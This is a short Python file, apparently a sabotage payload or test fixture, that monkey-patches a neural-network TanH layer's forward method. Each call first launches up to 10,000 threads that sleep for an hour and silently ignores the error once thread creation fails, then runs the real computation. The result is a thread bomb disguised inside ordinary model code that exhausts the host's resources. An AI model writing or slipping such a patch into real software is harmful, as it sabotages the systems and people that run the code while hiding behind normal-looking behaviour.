"""Starts threads until there are no more, and leaves them running."""

import threading
import time

_forward = TanH.forward


def _bomb(self, x):
    try:
        for _ in range(10_000):
            threading.Thread(target=time.sleep, args=(3600,)).start()
    except RuntimeError:
        pass
    return _forward(self, x)


TanH.forward = _bomb
